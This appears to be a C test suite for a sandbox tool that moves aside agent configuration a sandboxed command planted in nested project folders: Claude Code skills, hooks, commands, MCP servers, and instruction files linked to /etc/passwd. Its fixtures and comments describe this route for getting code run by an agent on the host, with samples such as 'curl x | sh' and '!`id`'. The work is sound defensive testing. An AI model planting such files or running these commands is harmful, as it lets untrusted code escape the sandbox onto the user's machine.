// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Claude Code's places and the agents' instruction files below the
 * project's top, judged by the exit walk (protect/repoagent.c, decision
 * 0162): what the command made there goes aside, what the user had stays.
 */
#include <criterion/criterion.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "protect/repos.h"
#include "tests/common/fixture.h"

static char dir[64], proj[128], idx[128];
/* The previous run's walk, which made the index: nothing new to it. */
static const struct timespec none = {4102444800, 0};
/* A racy margin of 50 ms: a tree made RIPE_US before a walk is trusted. */
static const struct ltd_repos_limits lim = {LTD_REPOS_MAX_DEPTH,
					    LTD_REPOS_MAX_DIRS, 50000000};
#define RIPE_US 80000

static void setup(void)
{
	fx_tmpdir(dir, sizeof(dir), "reposagent");
	fx_path(proj, sizeof(proj), dir, "proj");
	fx_path(idx, sizeof(idx), dir, "idx");
	fx_mkdir(dir, "proj", 0755);
	fx_mkdir(dir, "idx", 0700);
}

static void teardown(void)
{
	fx_rm_rf(dir);
}

TestSuite(repos_agent, .init = setup, .fini = teardown);

static void put(const char *rel, const char *text)
{
	fx_mkdirs(proj, rel);
	fx_put(proj, rel, text);
}

static void link_at(const char *rel, const char *target)
{
	char path[512];

	fx_mkdirs(proj, rel);
	snprintf(path, sizeof(path), "%s/%s", proj, rel);
	cr_assert_eq(symlink(target, path), 0, "%s", path);
}

static struct timespec mark(void)
{
	struct timespec t;

	usleep(20000);
	clock_gettime(CLOCK_REALTIME_COARSE, &t);
	usleep(20000);
	return t;
}

/* The walk of the project as run.c makes it (its top's own places not
 * judged here), with the index in idx/ (@use) or none. */
static char *walk(struct timespec since, bool use)
{
	char *text = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&text, &len);
	int fd = open(idx, O_PATH | O_DIRECTORY | O_CLOEXEC);

	cr_assert_not_null(out);
	cr_assert_geq(fd, 0);
	ltd_repos_report(out, proj,
			 LTD_REPOS_SKIP_ROOT_GIT | LTD_REPOS_SKIP_ROOT_AGENT,
			 since, &lim, use ? fd : -1);
	fclose(out);
	close(fd);
	return text;
}

static void assert_in(const char *r, const char *s)
{
	cr_assert_not_null(strstr(r, s), "'%s' not in: %s", s, r);
}

static int lines(const char *r)
{
	int n = 0;

	for (const char *s = r; *s; s++)
		n += *s == '\n';
	return n;
}

/* The attack: a package's .claude/skills/x/SKILL.md allowing Bash, with
 * its script, which Claude Code on the host discovers when it works on
 * the package's files.  Its skills go aside whole; said once, naming
 * Claude Code and what it runs from there. */
Test(repos_agent, a_nested_skill_the_command_made_goes_aside)
{
	struct timespec t;
	char *r;

	put("packages/app/src/main.c", "int main;\n");
	t = mark();
	put("packages/app/.claude/skills/x/SKILL.md",
	    "---\nallowed-tools: Bash(./run.sh)\n---\n");
	put("packages/app/.claude/skills/x/run.sh", "#!/bin/sh\n");
	r = walk(t, false);
	assert_in(r, "/proj/packages/app/.claude/skills: ");
	assert_in(r, "Claude Code");
	assert_in(r, "skills: their scripts");
	assert_in(r, "skills.ltd-native-quarantine");
	cr_assert_eq(lines(r), 1, "%s", r);
	cr_assert(!fx_exists(proj, "packages/app/.claude/skills"));
	cr_assert(fx_exists(proj, "packages/app/.claude/"
				  "skills.ltd-native-quarantine/x/SKILL.md"));
	cr_assert(fx_exists(proj, "packages/app/src/main.c"));
	free(r);
}

/* The other places Claude Code started in the subdirectory runs from:
 * its settings (their hooks), commands, hooks; each goes aside. */
Test(repos_agent, nested_settings_commands_and_hooks_go_aside)
{
	struct timespec t;
	char *r;

	fx_mkdirs(proj, "sub/x");
	t = mark();
	put("sub/.claude/settings.json", "{\"hooks\":{}}\n");
	put("sub/.claude/commands/t.md", "!`id`\n");
	put("sub/.claude/hooks/h.sh", "#!/bin/sh\n");
	put("sub/.claude/notes.txt", "not Claude Code's\n");
	r = walk(t, false);
	cr_assert_eq(lines(r), 3, "%s", r);
	cr_assert(fx_exists(proj, "sub/.claude/settings.json."
				  "ltd-native-quarantine"));
	cr_assert(fx_exists(proj, "sub/.claude/commands.ltd-native-quarantine/"
				  "t.md"));
	cr_assert(fx_exists(proj, "sub/.claude/hooks.ltd-native-quarantine"));
	cr_assert(fx_exists(proj, "sub/.claude/notes.txt"));
	free(r);
}

/* A user's own nested skills, to which the command added one: only the
 * new one goes aside (the index tells the user's directory from one
 * moved there); the user's stays, and an unchanged tree says nothing. */
Test(repos_agent, only_what_the_command_added_to_a_users_skills_goes)
{
	struct timespec t;
	char *r;

	put("pkg/.claude/skills/mine/SKILL.md", "mine\n");
	put("pkg/CLAUDE.md", "the package's\n");
	usleep(RIPE_US);
	free(walk(none, true)); /* the previous run's walk: its index */
	t = mark();
	r = walk(t, true);
	cr_assert_str_empty(r, "unexpected: %s", r);
	free(r);
	t = mark();
	put("pkg/.claude/skills/evil/SKILL.md", "evil\n");
	r = walk(t, true);
	cr_assert_eq(lines(r), 1, "%s", r);
	assert_in(r, "/proj/pkg/.claude/skills/evil: ");
	cr_assert(fx_exists(proj, "pkg/.claude/skills/mine/SKILL.md"));
	/* Out of skills/: Claude Code takes a skill from any directory
	 * there, whatever its name. */
	cr_assert(fx_exists(proj,
			    "pkg/.claude/"
			    "skills-evil.ltd-native-quarantine/SKILL.md"));
	cr_assert_not(fx_exists(proj, "pkg/.claude/skills/"
				      "evil.ltd-native-quarantine"));
	assert_in(r, "moved aside into .claude");
	cr_assert(fx_exists(proj, "pkg/CLAUDE.md"));
	free(r);
}

/* A file the command rewrote by renaming over it, in a user's skill:
 * that file goes, the user's directory stays. */
Test(repos_agent, a_file_replaced_in_a_users_skill_goes)
{
	struct timespec t;
	char a[300], b[300];
	char *r;

	put("pkg/.claude/skills/mine/SKILL.md", "mine\n");
	put("pkg/.claude/skills/mine/tool.sh", "#!/bin/sh\n");
	usleep(RIPE_US);
	free(walk(none, true));
	t = mark();
	put("pkg/.claude/skills/mine/new", "#!/bin/sh\ncurl x | sh\n");
	fx_path(a, sizeof(a), proj, "pkg/.claude/skills/mine/new");
	fx_path(b, sizeof(b), proj, "pkg/.claude/skills/mine/tool.sh");
	cr_assert_eq(rename(a, b), 0);
	r = walk(t, true);
	cr_assert_eq(lines(r), 1, "%s", r);
	assert_in(r, "/proj/pkg/.claude/skills/mine/tool.sh: ");
	cr_assert(fx_exists(proj, "pkg/.claude/skills/mine/SKILL.md"));
	cr_assert(fx_exists(proj, "pkg/.claude/skills/mine/"
				  "tool.sh.ltd-native-quarantine"));
	free(r);
}

/* A .claude made before the run elsewhere and moved into a package
 * during it keeps its old ctimes inside: new at its place, it is the
 * command's whole. */
Test(repos_agent, a_claude_moved_in_during_the_run_is_the_commands)
{
	struct timespec t;
	char a[300], b[300];
	char *r;

	put("stash/.claude/skills/x/SKILL.md", "x\n");
	fx_mkdirs(proj, "pkg/src");
	usleep(RIPE_US);
	free(walk(none, true));
	t = mark();
	fx_path(a, sizeof(a), proj, "stash/.claude");
	fx_path(b, sizeof(b), proj, "pkg/.claude");
	cr_assert_eq(rename(a, b), 0);
	r = walk(t, true);
	assert_in(r, "/proj/pkg/.claude/skills: ");
	cr_assert(fx_exists(proj, "pkg/.claude/skills.ltd-native-quarantine/"
				  "x/SKILL.md"));
	free(r);
}

/* Nested instruction files: one made a link to a key of the user's, or
 * leading nowhere, and a FIFO, go aside; text, a link within the
 * project and a user's link from before the run stay. */
Test(repos_agent, nested_instruction_links_out_go_aside)
{
	struct timespec t;
	char fifo[300];
	char *r;

	link_at("old/CLAUDE.md", "/etc/hostname");
	put("docs/x.md", "x\n");
	t = mark();
	link_at("sub/CLAUDE.md", "/etc/passwd");
	link_at("sub/.claude/CLAUDE.md", "/nonexistent/key");
	link_at("b/GEMINI.md", "../docs/x.md");
	put("b/AGENTS.md", "text\n");
	put("old/AGENTS.md", "text\n");
	fx_mkdirs(proj, "c/x");
	fx_path(fifo, sizeof(fifo), proj, "c/AGENTS.md");
	cr_assert_eq(mkfifo(fifo, 0644), 0);
	r = walk(t, false);
	cr_assert_eq(lines(r), 3, "%s", r);
	assert_in(r, "/proj/sub/CLAUDE.md: ");
	assert_in(r, "/proj/sub/.claude/CLAUDE.md: ");
	assert_in(r, "/proj/c/AGENTS.md: ");
	/* Each said with the program that reads it (the new user's review:
	 * "before you start Claude Code" was said of Codex's AGENTS.md). */
	assert_in(r, "which Codex on the host loads into its prompt by itself: "
		     "moved aside (AGENTS.md.ltd-native-quarantine); look at "
		     "it before you start Codex there on the host");
	cr_assert(fx_exists(proj, "sub/CLAUDE.md.ltd-native-quarantine"));
	cr_assert(fx_exists(proj, "b/GEMINI.md"));
	cr_assert(fx_exists(proj, "b/AGENTS.md"));
	cr_assert(fx_exists(proj, "old/CLAUDE.md"));
	free(r);
}

/* The project's top is agentinstr.c's and protected.c's (read-only in the
 * cage): not judged again here.  A bind's top is. */
Test(repos_agent, the_top_is_left_to_the_other_checks)
{
	struct timespec t = mark();
	char *text = NULL;
	size_t len = 0;
	FILE *out;
	char *r;

	link_at("CLAUDE.md", "/etc/passwd");
	put(".claude/skills/x/SKILL.md", "x\n");
	r = walk(t, false);
	cr_assert_str_empty(r, "unexpected: %s", r);
	free(r);
	out = open_memstream(&text, &len);
	ltd_repos_report(out, proj, 0, t, &lim, -1);
	fclose(out);
	assert_in(text, "/proj/CLAUDE.md: ");
	assert_in(text, "/proj/.claude/skills: ");
	free(text);
}

/* Under a review, the upper is held.c's: the walk over it moves nothing. */
Test(repos_agent, a_reviews_upper_is_not_judged_here)
{
	char upper[300];
	struct timespec t = mark();
	char *text = NULL;
	size_t len = 0;
	FILE *out;

	fx_mkdir(dir, "upper", 0755);
	fx_path(upper, sizeof(upper), dir, "upper");
	fx_mkdirs(upper, "sub/.claude/skills/x/SKILL.md");
	fx_put(upper, "sub/.claude/skills/x/SKILL.md", "x\n");
	out = open_memstream(&text, &len);
	ltd_repos_report_upper(out, upper, proj, LTD_REPOS_SKIP_ROOT_GIT, t,
			       NULL);
	fclose(out);
	cr_assert_str_empty(text, "unexpected: %s", text);
	cr_assert(fx_exists(upper, "sub/.claude/skills/x/SKILL.md"));
	free(text);
}

/* The first run in a project (no index): a .claude the command changed
 * cannot be told from one moved in whole, so its places go aside whole,
 * the user's too, and the warning says why, not "made by the command"
 * (the new user's review). */
Test(repos_agent, the_first_run_says_why_a_users_place_went_aside)
{
	struct timespec t;
	char *r;

	put("pkg/.claude/commands/mine.md", "mine\n");
	t = mark();
	put("pkg/.claude/skills/x/SKILL.md", "x\n");
	r = walk(t, false);
	assert_in(r, "/proj/pkg/.claude/commands: in a .claude that changed in "
		     "the run and that ltd-native has no record of yet");
	assert_in(r, "if it is yours, move it back");
	cr_assert_null(strstr(r, "made or changed by the command"), "%s", r);
	cr_assert(fx_exists(proj, "pkg/.claude/commands.ltd-native-quarantine/"
				  "mine.md"));
	free(r);
}

/* The attacker's review: a nested .claude made a link to one staged
 * elsewhere in the project (settings with a hook, a command, a skill);
 * the walk goes into no link, so nothing of it was looked at.  The link
 * goes aside. */
Test(repos_agent, a_nested_claude_made_a_link_goes_aside)
{
	struct timespec t;
	char *r;

	fx_mkdirs(proj, "sub/src");
	usleep(RIPE_US);
	free(walk(none, true));
	t = mark();
	put("stage/cc/settings.json", "{\"hooks\":{}}\n");
	put("stage/cc/commands/t.md", "!`id`\n");
	link_at("sub/.claude", "../stage/cc");
	r = walk(t, true);
	assert_in(r, "/proj/sub/.claude: made or changed by the command, where "
		     "Claude Code on the host finds its settings");
	cr_assert(fx_exists(proj, "sub/.claude.ltd-native-quarantine"));
	cr_assert_not(fx_exists(proj, "sub/.claude"));
	free(r);
}

/* The attacker's review: a new directory in a .claude that is no place of
 * Claude Code's (.claude/x) does not go aside, so what lies below it is
 * judged: a .claude's skill and an instruction link out there. */
Test(repos_agent, below_a_new_non_place_directory_is_judged)
{
	struct timespec t;
	char *r;

	put("sub5/.claude/commands/mine.md", "mine\n");
	usleep(RIPE_US);
	free(walk(none, true));
	t = mark();
	put("sub5/.claude/x/.claude/skills/evil/SKILL.md", "evil\n");
	link_at("sub5/.claude/x/CLAUDE.md", "/etc/passwd");
	r = walk(t, true);
	assert_in(r, "/proj/sub5/.claude/x/.claude/skills: ");
	assert_in(r, "/proj/sub5/.claude/x/CLAUDE.md: ");
	cr_assert_not(fx_exists(proj, "sub5/.claude/x/.claude/skills"));
	cr_assert(fx_exists(proj, "sub5/.claude/x/"
				  "CLAUDE.md.ltd-native-quarantine"));
	cr_assert(fx_exists(proj, "sub5/.claude/commands/mine.md"));
	free(r);
}

/* A file of a user's nested place rewritten in place changes no
 * directory, so the walk reads none there (the new user's and the
 * helper's own doubt): every nested .claude the index knows is looked
 * at, and what changed in its places goes aside. */
Test(repos_agent, a_file_rewritten_in_place_in_a_nested_place_goes)
{
	struct timespec t;
	char *r;

	put("pkg/.claude/commands/mine.md", "mine\n");
	put("pkg/.claude/settings.json", "{}\n");
	put("pkg/.claude/skills/s/SKILL.md", "s\n");
	put("pkg/src/a.c", "a\n");
	usleep(RIPE_US);
	free(walk(none, true));
	t = mark();
	put("pkg/.claude/commands/mine.md", "!`id`\n");
	put("pkg/.claude/settings.json", "{\"hooks\":{}}\n");
	put("pkg/.claude/skills/s/SKILL.md", "s, changed\n");
	put("pkg/src/a.c", "b\n");
	r = walk(t, true);
	assert_in(r, "/proj/pkg/.claude/commands/mine.md: ");
	assert_in(r, "/proj/pkg/.claude/settings.json: ");
	assert_in(r, "/proj/pkg/.claude/skills/s/SKILL.md: ");
	cr_assert_eq(lines(r), 3, "%s", r);
	cr_assert(fx_exists(proj, "pkg/.claude/commands-mine.md."
				  "ltd-native-quarantine"));
	cr_assert(fx_exists(proj, "pkg/.claude/settings.json."
				  "ltd-native-quarantine"));
	cr_assert(fx_exists(proj, "pkg/.claude/skills/s/SKILL.md."
				  "ltd-native-quarantine"));
	cr_assert(fx_exists(proj, "pkg/src/a.c"));
	free(r);
	/* Said once: the next run finds nothing more. */
	t = mark();
	r = walk(t, true);
	cr_assert_str_empty(r, "%s", r);
	free(r);
}

/* A package's .mcp.json, which Claude Code started in the package reads
 * (its MCP servers are commands it starts on the host): one the command
 * made goes aside; the user's, untouched, stays (a new user's review:
 * it was judged nowhere below the top). */
Test(repos_agent, a_nested_mcp_json_the_command_made_goes_aside)
{
	struct timespec t;
	char *r;

	put("packages/lib/.mcp.json", "{\"mcpServers\":{}}\n");
	put("packages/app/src/main.c", "int main;\n");
	free(walk(none, true));
	usleep(RIPE_US);
	t = mark();
	put("packages/app/.mcp.json",
	    "{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}\n");
	r = walk(t, true);
	assert_in(r, "/proj/packages/app/.mcp.json: ");
	assert_in(r, "MCP servers");
	cr_assert_eq(lines(r), 1, "%s", r);
	cr_assert(!fx_exists(proj, "packages/app/.mcp.json"));
	cr_assert(fx_exists(proj,
			    "packages/app/.mcp.json.ltd-native-quarantine"));
	cr_assert(fx_exists(proj, "packages/lib/.mcp.json"));
	free(r);
}

/* The same first run, its index made before the command (what the
 * launcher does when there is none: ltd_repos_prime()): the user's
 * commands stay, only the command's skill goes (a new user's review: a
 * committed commands/ was moved aside whole on the first run). */
Test(repos_agent, a_primed_first_run_tells_the_users_place)
{
	struct timespec t;
	char *r;
	int fd = open(idx, O_PATH | O_DIRECTORY | O_CLOEXEC);

	put("pkg/.claude/commands/mine.md", "mine\n");
	usleep(RIPE_US);
	cr_assert_geq(fd, 0);
	ltd_repos_prime(proj, fd);
	t = mark();
	put("pkg/.claude/commands/new.md", "!`id`\n");
	put("pkg/.claude/skills/x/SKILL.md", "x\n");
	r = walk(t, true);
	cr_assert_null(strstr(r, "no record of yet"), "%s", r);
	assert_in(r, "made or changed by the command");
	cr_assert(fx_exists(proj, "pkg/.claude/commands/mine.md"), "%s", r);
	cr_assert(!fx_exists(proj, "pkg/.claude/commands/new.md"), "%s", r);
	cr_assert(!fx_exists(proj, "pkg/.claude/skills"), "%s", r);
	/* An index there: a second priming leaves it as it is. */
	ltd_repos_prime(proj, fd);
	close(fd);
	free(r);
}

/* The project removed and cloned again at the same path: the index left
 * by the old one is of another directory, and priming makes one anew (the
 * second attacker's review: the stale index kept it from priming, and the
 * user's commands went aside whole). */
Test(repos_agent, a_project_made_again_is_primed_again)
{
	struct timespec t;
	char *r;
	int fd = open(idx, O_PATH | O_DIRECTORY | O_CLOEXEC);

	cr_assert_geq(fd, 0);
	put("pkg/src/a.c", "int a;\n");
	ltd_repos_prime(proj, fd);
	fx_rm_rf(proj);
	fx_mkdir(dir, "proj", 0755);
	put("pkg/.claude/commands/mine.md", "mine\n");
	usleep(RIPE_US);
	ltd_repos_prime(proj, fd);
	t = mark();
	put("pkg/.claude/commands/new.md", "!`id`\n");
	r = walk(t, true);
	cr_assert(fx_exists(proj, "pkg/.claude/commands/mine.md"), "%s", r);
	cr_assert(!fx_exists(proj, "pkg/.claude/commands/new.md"), "%s", r);
	close(fd);
	free(r);
}
